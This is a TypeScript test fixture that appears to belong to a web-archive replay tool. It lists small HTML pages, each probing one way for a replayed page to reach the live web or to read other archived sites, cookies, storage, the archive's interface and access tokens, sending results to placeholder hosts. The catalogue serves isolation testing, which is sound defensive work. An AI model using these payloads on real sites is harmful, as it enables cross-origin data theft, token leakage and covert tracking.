// Ways out of a replayed page, each a small page that tries one. `OUT` and `SAFE` are live addresses that nobody has
// (http and https), `OTHER` is a page of another archived site on its own origin, `OTHER_HERE` the same asked for on
// the page's origin, `UI` and `ACCESS` are the archive's own origins, `STUN` is a trap for datagrams. What a page gets
// hold of it gives to `got`.

const js = (code: string): string => `<body><p>page</p><script>${code}</script>`;
const click = (attributes: string): string =>
  `<body><script>document.body.insertAdjacentHTML("beforeend", \`<a id=a ${attributes}>x</a>\`);a.click()</script>`;
const form = (attributes: string): string =>
  `<body><script>document.body.insertAdjacentHTML("beforeend", \`<form id=f ${attributes}><input name=q value=secret><button id=b>x</button></form>\`);f.submit()</script>`;
/** Markup put in by script, so that no rewriting has seen it. */
const put = (markup: string): string => js(`document.body.insertAdjacentHTML("beforeend", \`${markup}\`)`);
const peer = (maker: string): string =>
  js(`const make = ${maker}; try { const p = new make({ iceServers: [{ urls: STUN }] });
    p.createDataChannel("x"); p.createOffer().then((o) => p.setLocalDescription(o)); } catch {}`);
const rules = (text: string): string =>
  js(
    `const s = document.createElement("script"); s.type = "speculationrules"; s.textContent = JSON.stringify(${text}); document.head.append(s)`,
  );
const worker = (code: string): string =>
  `new Worker(URL.createObjectURL(new Blob([\`const OUT = "\${OUT}", SAFE = "\${SAFE}";${code}\`], { type: "text/javascript" })))`;

/** Towards the live web. */
export const OUTWARD: Readonly<Record<string, string>> = {
  fetch: js(`fetch(OUT)`),
  "fetch-no-cors": js(`fetch(OUT, { mode: "no-cors" })`),
  "fetch-keepalive": js(`fetch(SAFE, { mode: "no-cors", keepalive: true, method: "POST", body: "x" })`),
  "fetch-later": js(`fetchLater(SAFE, { activateAfter: 0 })`),
  xhr: js(`const x = new XMLHttpRequest(); x.open("GET", OUT); x.send()`),
  beacon: js(`navigator.sendBeacon(OUT, "x")`),
  "event-source": js(`new EventSource(OUT)`),
  "web-socket": js(`new WebSocket(OUT.replace("http", "ws"))`),
  "web-socket-safe": js(`new WebSocket(SAFE.replace("http", "ws"))`),
  "web-transport": js(`new WebTransport(SAFE + ":443/x")`),
  webrtc: peer("RTCPeerConnection"),
  "webrtc-old-name": peer("webkitRTCPeerConnection"),
  "webrtc-blank-frame": js(`const f = document.createElement("iframe"); document.body.append(f);
    const p = new f.contentWindow.RTCPeerConnection({ iceServers: [{ urls: STUN }] });
    p.createDataChannel("x"); p.createOffer().then((o) => p.setLocalDescription(o))`),
  "webrtc-srcdoc": js(
    `const f = document.createElement("iframe"); f.srcdoc = "<script>const p = new RTCPeerConnection({ iceServers: [{ urls: '" + STUN + "' }] }); p.createDataChannel('x'); p.createOffer().then((o) => p.setLocalDescription(o))<\\/script>"; document.body.append(f)`,
  ),
  "web-assembly": js(`WebAssembly.compileStreaming(fetch(OUT))`),
  image: js(`new Image().src = OUT`),
  "image-srcset": put('<img srcset="${OUT}/a 1x, ${SAFE}/b 2x">'),
  picture: put('<picture><source srcset="${OUT}"><img></picture>'),
  "input-image": put('<input type=image src="${OUT}">'),
  "body-background": js(`document.body.background = OUT`),
  "set-attribute": js(`document.createElement("img").setAttribute("src", OUT)`),
  script: js(`const s = document.createElement("script"); s.src = OUT; document.head.append(s)`),
  "module-script": js(
    `const s = document.createElement("script"); s.type = "module"; s.src = SAFE; document.head.append(s)`,
  ),
  "dynamic-import": js(`import(OUT)`),
  "import-map": js(
    `const m = document.createElement("script"); m.type = "importmap"; m.textContent = JSON.stringify({ imports: { x: SAFE + "/x.js" } }); document.head.append(m); import("x")`,
  ),
  "module-preload": put('<link rel=modulepreload href="${OUT}">'),
  stylesheet: put('<link rel=stylesheet href="${OUT}">'),
  "stylesheet-in-shadow": js(
    `document.body.attachShadow({ mode: "open" }).innerHTML = '<link rel=stylesheet href="' + OUT + '">'`,
  ),
  "css-import": put('<style>@import "${OUT}";</style>'),
  "css-background": put('<p style="background:url(${OUT})">x</p>'),
  "css-font": put("<style>@font-face{font-family:x;src:url(${OUT})}p{font-family:x}</style><p>x</p>"),
  "css-image-set": put("<p style=\"background:image-set('${OUT}' 1x)\">x</p>"),
  "css-cursor": put('<p style="cursor:url(${OUT}),auto">x</p>'),
  "css-content": put("<style>p::before{content:url(${OUT})}</style><p>x</p>"),
  "css-variable": js(
    `document.body.style.setProperty("--x", "url(" + OUT + ")"); document.body.style.background = "var(--x)"`,
  ),
  "css-shape": put('<p style="shape-outside:url(${OUT});float:left">x</p>'),
  "constructed-sheet": js(
    `const s = new CSSStyleSheet(); s.replaceSync("body{background:url(" + OUT + ")}"); document.adoptedStyleSheets = [s]`,
  ),
  "svg-image": put('<svg><image href="${OUT}" width=9 height=9 /></svg>'),
  "svg-use": put('<svg><use href="${OUT}#x" /></svg>'),
  "svg-fe-image": put(
    '<svg width=9 height=9><filter id=f><feImage href="${OUT}" /></filter><rect width=9 height=9 filter="url(#f)" /></svg>',
  ),
  "svg-filter": put('<p style="filter:url(${OUT}#f)">x</p>'),
  "svg-script": js(
    `const s = document.createElementNS("http://www.w3.org/2000/svg", "script"); s.setAttribute("href", OUT); document.body.append(s)`,
  ),
  "svg-foreign-object": put('<svg><foreignObject><img src="${OUT}"></foreignObject></svg>'),
  "svg-animated-href": put(
    '<svg><image width=9 height=9><set attributeName="href" to="${OUT}" /></image></svg>',
  ),
  object: put('<object data="${OUT}"></object>'),
  embed: put('<embed src="${OUT}">'),
  "object-svg": put(
    '<object type="image/svg+xml" data=\'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg"><image href="${OUT}"/></svg>\'></object>',
  ),
  iframe: put('<iframe src="${OUT}"></iframe>'),
  "iframe-srcdoc": put('<iframe srcdoc="<img src=${OUT}>"></iframe>'),
  "iframe-javascript": js(
    `const f = document.createElement("iframe"); f.src = "javascript:'<img src=" + OUT + ">'"; document.body.append(f)`,
  ),
  "iframe-data": js(
    `const f = document.createElement("iframe"); f.src = "data:text/html,<script>fetch('" + OUT + "',{mode:'no-cors'});location='" + OUT + "'<\\/script>"; document.body.append(f)`,
  ),
  "iframe-blob": js(
    `const f = document.createElement("iframe"); f.src = URL.createObjectURL(new Blob(["<img src=" + OUT + "><script>location='" + OUT + "'<\\/script>"], { type: "text/html" })); document.body.append(f)`,
  ),
  "iframe-blank-fetch": js(
    `const f = document.createElement("iframe"); document.body.append(f); f.contentWindow.fetch(OUT, { mode: "no-cors" })`,
  ),
  "iframe-blank-navigates": js(
    `const f = document.createElement("iframe"); document.body.append(f); f.contentWindow.location = OUT`,
  ),
  "iframe-csp": js(
    `const f = document.createElement("iframe"); f.csp = "default-src *"; f.src = OUT; document.body.append(f)`,
  ),
  "iframe-credentialless": js(
    `const f = document.createElement("iframe"); f.credentialless = true; f.src = SAFE; document.body.append(f)`,
  ),
  frameset: js(`document.documentElement.innerHTML = '<frameset><frame src="' + OUT + '"></frameset>'`),
  "fenced-frame": js(
    `const f = document.createElement("fencedframe"); f.config = new FencedFrameConfig(SAFE); document.body.append(f)`,
  ),
  video: put('<video src="${OUT}" autoplay preload=auto></video>'),
  audio: js(`new Audio(OUT).play()`),
  track: put('<video src="data:video/mp4,"><track default kind=captions src="${OUT}"></video>'),
  poster: put('<video poster="${OUT}"></video>'),
  prefetch: put('<link rel=prefetch href="${OUT}">'),
  preload: put('<link rel=preload as=image href="${OUT}">'),
  preconnect: put('<link rel=preconnect href="${SAFE}">'),
  "preconnect-anonymous": put('<link rel=preconnect crossorigin href="${SAFE}">'),
  "dns-prefetch": put('<link rel=dns-prefetch href="${SAFE}">'),
  "dns-prefetch-switched-on": put(
    '<meta http-equiv=x-dns-prefetch-control content=on><link rel=dns-prefetch href="${OUT}"><a href="${SAFE}">x</a>',
  ),
  prerender: put('<link rel=prerender href="${OUT}">'),
  "early-link": put('<link rel="next stylesheet prefetch" href="${OUT}">'),
  "speculation-in-page": `<body><script type=speculationrules>{"prefetch":[{"source":"list","urls":["@OUT@","@SAFE@"],"eagerness":"immediate"}]}</script>`,
  "speculation-prerender-in-page": `<body><script type=speculationrules>{"prerender":[{"source":"list","urls":["@OUT@"],"eagerness":"immediate"}]}</script>`,
  "speculation-prefetch": rules(
    `{ prefetch: [{ source: "list", urls: [OUT, SAFE], eagerness: "immediate" }] }`,
  ),
  "speculation-prerender": rules(`{ prerender: [{ source: "list", urls: [SAFE], eagerness: "immediate" }] }`),
  "speculation-anonymous": rules(
    `{ prefetch: [{ source: "list", urls: [SAFE], requires: ["anonymous-client-ip-when-cross-origin"], eagerness: "immediate" }] }`,
  ),
  "speculation-links": js(
    `document.body.insertAdjacentHTML("beforeend", '<a href="' + SAFE + '">x</a>'); const s = document.createElement("script"); s.type = "speculationrules"; s.textContent = '{"prefetch":[{"source":"document","where":{"href_matches":"/*"},"eagerness":"immediate"}]}'; document.head.append(s)`,
  ),
  manifest: put('<link rel=manifest href="${OUT}">'),
  icon: put('<link rel=icon href="${OUT}">'),
  "location-assign": js(`location.assign(OUT)`),
  "location-replace": js(`location.replace(SAFE)`),
  "location-later": js(`addEventListener("load", () => setTimeout(() => (location.href = OUT), 50))`),
  "meta-refresh": put('<meta http-equiv=refresh content="0;url=${OUT}">'),
  "meta-refresh-in-page": `<body><meta http-equiv=refresh content="0;url=@OUT@">`,
  "base-then-image": js(
    `const b = document.createElement("base"); b.href = OUT; document.head.append(b); new Image().src = "/x"`,
  ),
  "base-then-link": js(
    `const b = document.createElement("base"); b.href = OUT; document.head.append(b); document.body.insertAdjacentHTML("beforeend", "<a id=a href=/x>x</a>"); a.click()`,
  ),
  "navigation-api": js(`navigation.navigate(OUT)`),
  "javascript-url": js(`location = "javascript:'<img src=" + OUT + ">'"`),
  "document-write": js(`document.write("<img src=" + OUT + "><script src=" + OUT + "><\\/script>")`),
  "document-open": js(
    `const d = document.open(); d.write("<meta http-equiv=refresh content='0;url=" + OUT + "'>"); d.close()`,
  ),
  "top-location": js(`top.location = OUT`),
  "top-replace": js(`top.location.replace(SAFE)`),
  "parent-location": js(`parent.location.href = OUT`),
  "top-by-message": js(
    `parent.postMessage("isochron replay 20261115123107412/" + OUT + "/", "*"); parent.postMessage("isochron replay 20261115123107412/https://x@" + OUT.slice(7), "*")`,
  ),
  "top-by-script-message": js(
    `for (const x of ["javascript:alert(1)", "20261115123107412/javascript://x", "//" + OUT.slice(7), "20261115123107412/http:////" + OUT.slice(7)]) parent.postMessage("isochron replay " + x, "*")`,
  ),
  "window-open": js(`window.open(OUT)`),
  "window-open-blank": js(`const w = window.open(""); w.location = OUT`),
  "window-open-top": js(`window.open(OUT, "_top")`),
  "window-open-parent": js(`window.open(OUT, "_parent")`),
  "window-open-noopener": js(`window.open(SAFE, "_blank", "noopener")`),
  "history-back": js(`history.back(); history.go(-5)`),
  anchor: click('href="${OUT}"'),
  "anchor-top": click('href="${OUT}" target=_top'),
  "anchor-blank": click('href="${OUT}" target=_blank'),
  "anchor-named": click('href="${OUT}" target=elsewhere'),
  "anchor-ping": click('href="#" ping="${OUT}"'),
  "anchor-download": click('href="${OUT}" download'),
  "anchor-attribution": click('href="#" attributionsrc="${SAFE}"'),
  "anchor-with-keys": js(
    `document.body.insertAdjacentHTML("beforeend", '<a id=a href="' + OUT + '">x</a>'); a.dispatchEvent(new MouseEvent("click", { ctrlKey: true, bubbles: true }))`,
  ),
  "image-attribution": put('<img attributionsrc="${SAFE}" src="data:,">'),
  "mathml-link": js(
    `document.body.insertAdjacentHTML("beforeend", '<math><mi id=m href="' + OUT + '">x</mi></math>'); m.dispatchEvent(new MouseEvent("click", { bubbles: true }))`,
  ),
  "svg-link": js(
    `document.body.insertAdjacentHTML("beforeend", '<svg><a id=s href="' + OUT + '" target=_top><text>x</text></a></svg>'); s.dispatchEvent(new MouseEvent("click", { bubbles: true }))`,
  ),
  "form-get": form('action="${OUT}"'),
  "form-post": form('action="${SAFE}" method=post'),
  "form-top": form('action="${OUT}" target=_top'),
  "form-blank": form('action="${OUT}" target=_blank'),
  "form-action-of-button": js(
    `document.body.insertAdjacentHTML("beforeend", '<form><button id=b formaction="' + OUT + '">x</button></form>'); b.click()`,
  ),
  "form-into-frame": js(
    `document.body.insertAdjacentHTML("beforeend", '<iframe name=n></iframe><form id=f target=n action="' + OUT + '"></form>'); f.submit()`,
  ),
  "worker-fetch": js(worker("fetch(OUT, { mode: 'no-cors' })")),
  "worker-import": js(worker("importScripts(OUT)")),
  "worker-socket": js(worker("new WebSocket(OUT.replace('http', 'ws'))")),
  "worker-nested": js(worker("new Worker(URL.createObjectURL(new Blob(['fetch(\"' + OUT + '\")'])))")),
  "worker-data": js(`new Worker("data:text/javascript,fetch('" + OUT + "',{mode:'no-cors'})")`),
  "worker-remote": js(`new Worker(OUT)`),
  "worker-archived": js(`new Worker("worker.js")`),
  "shared-worker": js(
    `new SharedWorker(URL.createObjectURL(new Blob(["fetch('" + OUT + "',{mode:'no-cors'})"])))`,
  ),
  "service-worker": js(`navigator.serviceWorker.register("worker.js")`),
  "service-worker-in-frame": js(
    `const f = document.createElement("iframe"); document.body.append(f); f.contentWindow.navigator.serviceWorker.register("worker.js", { scope: "./" })`,
  ),
  "audio-worklet": js(`new AudioContext().audioWorklet.addModule(OUT)`),
  "paint-worklet": js(`CSS.paintWorklet.addModule(SAFE)`),
  xslt: js(
    `const x = new DOMParser().parseFromString('<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:import href="' + OUT + '"/></xsl:stylesheet>', "text/xml"); new XSLTProcessor().importStylesheet(x)`,
  ),
  "custom-protocol": js(`location = "mailto:x@" + OUT.slice(7)`),
  "meta-policy-report": put(
    "<meta http-equiv=Content-Security-Policy content=\"img-src 'none'; report-uri ${OUT}\"><img src=x.png>",
  ),
  "payment-request": js(
    `new PaymentRequest([{ supportedMethods: SAFE + "/pay" }], { total: { label: "x", amount: { currency: "EUR", value: "1" } } }).canMakePayment()`,
  ),
  fedcm: js(
    `navigator.credentials.get({ identity: { providers: [{ configURL: SAFE + "/fedcm.json", clientId: "x" }] } })`,
  ),
  "interest-group": js(
    `navigator.joinAdInterestGroup({ owner: SAFE, name: "x", biddingLogicURL: SAFE + "/b.js" }, 99)`,
  ),
  "ad-auction": js(
    `navigator.runAdAuction({ seller: SAFE, decisionLogicURL: SAFE + "/d.js", interestGroupBuyers: [] })`,
  ),
  "shared-storage": js(`sharedStorage.createWorklet(SAFE + "/s.js")`),
  "trust-token": js(
    `fetch(SAFE, { mode: "no-cors", privateToken: { version: 1, operation: "token-request" } })`,
  ),
  "storage-access": js(`document.requestStorageAccessFor(SAFE)`),
  "media-artwork": js(
    `navigator.mediaSession.metadata = new MediaMetadata({ title: "x", artwork: [{ src: OUT }] })`,
  ),
  notification: js(`new Notification("x", { icon: OUT })`),
  "protocol-handler": js(`navigator.registerProtocolHandler("web+x", OUT + "/%s")`),
  "related-apps": js(`navigator.getInstalledRelatedApps()`),
  "reporting-observer": js(`new ReportingObserver(() => fetch(OUT)).observe(); fetch(SAFE)`),
  download: js(
    `const a = document.createElement("a"); a.download = "x"; a.href = SAFE; document.body.append(a); a.click()`,
  ),
};

const frame = (address: string, then: string): string =>
  js(
    `const f = document.createElement("iframe"); f.onload = () => { ${then} }; f.src = ${address}; document.body.append(f)`,
  );

/** Towards another archived site, the interface or the token. */
export const INWARD: Readonly<Record<string, string>> = {
  "other-fetch": js(`fetch(OTHER).then((r) => r.text()).then(got)`),
  "other-fetch-here": js(`fetch(OTHER_HERE).then((r) => r.text()).then(got)`),
  "other-fetch-framed-here": js(
    `fetch(OTHER_HERE.replace("412/", "412if_/")).then((r) => r.text()).then(got)`,
  ),
  "other-fetch-redirected": js(`fetch("elsewhere").then((r) => r.text()).then(got)`),
  "other-fetch-manual": js(
    `fetch(OTHER_HERE, { redirect: "manual", mode: "no-cors" }).then((r) => r.text()).then(got)`,
  ),
  "other-xhr": js(
    `const x = new XMLHttpRequest(); x.onload = () => got(x.responseText); x.open("GET", OTHER_HERE, false); x.send(); got(x.responseText)`,
  ),
  "other-frame": frame("OTHER_HERE", `got(f.contentDocument && f.contentDocument.body.textContent)`),
  "other-frame-direct": frame("OTHER", `got(f.contentWindow.document.body.textContent)`),
  "other-frame-marked": frame(
    `OTHER_HERE.replace("412/", "412if_/")`,
    `got(f.contentDocument && f.contentDocument.body.textContent)`,
  ),
  "other-object": js(
    `const o = document.createElement("object"); o.onload = () => got(o.contentDocument.body.textContent); o.data = OTHER_HERE; document.body.append(o)`,
  ),
  "other-script": js(
    `const s = document.createElement("script"); s.onload = () => got("ran"); s.src = OTHER_HERE; document.body.append(s)`,
  ),
  "other-style": js(
    `const l = document.createElement("link"); l.rel = "stylesheet"; l.onload = () => got(l.sheet.cssRules[0].cssText); l.href = OTHER_HERE + "secret.css"; document.head.append(l)`,
  ),
  "other-pixels": js(
    `const i = new Image(); i.onload = () => { const c = document.createElement("canvas").getContext("2d"); c.drawImage(i, 0, 0); got(c.getImageData(0, 0, 1, 1).data) ; got("SECRET-OTHER") }; i.src = OTHER_HERE + "dot.svg"; document.body.append(i)`,
  ),
  "other-worker": js(
    `const w = new Worker(URL.createObjectURL(new Blob(["fetch('" + OTHER_HERE + "').then((r) => r.text()).then(postMessage)"]))); w.onmessage = (e) => got(e.data)`,
  ),
  "other-import": js(`import(OTHER_HERE + "secret.js").then((m) => got(m.default))`),
  "other-json-import": js(
    `import(OTHER_HERE + "secret.json", { with: { type: "json" } }).then((m) => got(JSON.stringify(m.default)))`,
  ),
  "other-resource-timing": js(
    `new Image().src = OTHER_HERE + "dot.svg"; setTimeout(() => got(performance.getEntries().map((e) => e.name + " " + e.nextHopProtocol).filter((n) => n.includes("~")).join(" ").replaceAll(location.pathname.split("/")[1], "")), 300)`,
  ),
  "other-violation-report": js(
    `document.addEventListener("securitypolicyviolation", (e) => got(e.blockedURI.includes("~") ? "SECRET " + e.blockedURI : "")); fetch(OTHER_HERE); new Worker(OTHER_HERE)`,
  ),
  "other-local-storage": js(`got(JSON.stringify(localStorage)); localStorage.setItem("planted", "PLANTED")`),
  "other-session-storage": js(`got(JSON.stringify(sessionStorage)); got(window.name)`),
  "other-cookie": js(`got(document.cookie)`),
  "other-cookie-domain": js(
    `document.cookie = "planted=PLANTED; domain=localhost; path=/"; document.cookie = "planted=PLANTED; domain=.localhost"; got(document.cookie)`,
  ),
  "other-cookie-store": js(
    `cookieStore.set({ name: "planted", value: "PLANTED", domain: "localhost" }); cookieStore.getAll().then((all) => got(JSON.stringify(all)))`,
  ),
  "other-indexed-db": js(`indexedDB.databases().then((all) => got(JSON.stringify(all)))`),
  "other-cache": js(`caches.keys().then((all) => got(all.join()))`),
  "other-broadcast": js(
    `new BroadcastChannel("secrets").onmessage = (e) => got(e.data); const f = document.createElement("iframe"); f.src = OTHER_HERE; document.body.append(f)`,
  ),
  "other-lock": js(`navigator.locks.query().then((l) => got(JSON.stringify(l)))`),
  "other-shared-worker": js(
    `const w = new SharedWorker("data:text/javascript,onconnect=(e)=>e.ports[0].postMessage(1)", "secrets"); w.port.onmessage = (e) => got(e.data)`,
  ),
  "other-domain": js(
    `try { document.domain = "localhost" } catch {}; const f = document.createElement("iframe"); f.onload = () => got(f.contentWindow.document.body.textContent); f.src = OTHER_HERE; document.body.append(f)`,
  ),
  "other-window-name": frame("OTHER_HERE", `got(f.contentWindow.name)`),
  "other-blob": js(
    `got(JSON.stringify(performance.getEntriesByType("resource").filter((e) => e.name.startsWith("blob:"))))`,
  ),
  "parent-document": js(`got(parent.document.documentElement.outerHTML)`),
  "parent-address": js(`got(parent.location.href)`),
  "top-names": js(
    `for (const n of Object.getOwnPropertyNames(top)) try { got(n + String(top[n])) } catch {}`,
  ),
  "ancestor-origins": js(`got([...location.ancestorOrigins].filter((o) => o.includes("~")).join())`),
  referrer: js(`got(document.referrer)`),
  opener: js(`got(window.opener && window.opener.location.href)`),
  "history-state": js(
    `got(JSON.stringify(history.state)); history.pushState({}, "", "/20010101000000000if_/http://forged.example/"); document.title = "FORGED"`,
  ),
  "history-address": js(
    `history.replaceState({}, "", location.pathname.replace(/\\d{17}if_.*/, "19990101000000000/http://forged.example/")); document.title = "FORGED"`,
  ),
  "interface-fetch": js(`fetch(UI + "/api/captures").then((r) => r.text()).then(got)`),
  "interface-no-cors": js(
    `fetch(UI + "/api/captures", { mode: "no-cors" }).then((r) => r.url.startsWith(location.origin + "/") || got("INTERFACE " + r.type))`,
  ),
  "interface-frame": frame(`UI + "/"`, `got(f.contentDocument && "INTERFACE")`),
  "interface-script": js(
    `const s = document.createElement("script"); s.onload = () => got("INTERFACE"); s.src = UI + "/api/captures"; document.head.append(s)`,
  ),
  "interface-image": js(`const i = new Image(); i.onload = () => got("INTERFACE"); i.src = UI + "/icon.svg"`),
  "interface-events": js(`new EventSource(UI + "/api/live").onmessage = (e) => got(e.data)`),
  "interface-navigate": js(`location = UI + "/"`),
  "interface-top": js(`top.location = UI + "/#token=x"`),
  "interface-by-site-name": js(
    `fetch(location.origin.replace(/\\d+$/, new URL(UI).port) + "/api/captures").then((r) => r.text()).then(got)`,
  ),
  "access-fetch": js(
    `fetch(ACCESS + "/").then(async (r) => r.url.startsWith(location.origin + "/") || got("INTERFACE" + (await r.text())))`,
  ),
  "access-memento": js(`fetch(OTHER_ACCESS).then((r) => r.text()).then(got)`),
  "access-frame": frame("OTHER_ACCESS", `got(f.contentDocument && f.contentDocument.body.textContent)`),
  "access-by-name": js(
    `fetch(OTHER_ACCESS.replace("127.0.0.1", "localhost")).then((r) => r.text()).then(got)`,
  ),
  "token-in-address": js(
    `got(location.href.replace(/\\/~[^/]*/, "")); got(document.URL.includes("token") ? document.URL : "")`,
  ),
  "token-by-message": js(
    `addEventListener("message", (e) => got(JSON.stringify(e.data))); parent.postMessage("token", "*"); parent.postMessage({ token: 1 }, "*")`,
  ),
  "token-in-errors": js(
    `onerror = (m, s) => got(s.replace(location.href, "")); fetch(OTHER_HERE).catch((e) => got(e.stack.replaceAll(location.href, "")))`,
  ),
};
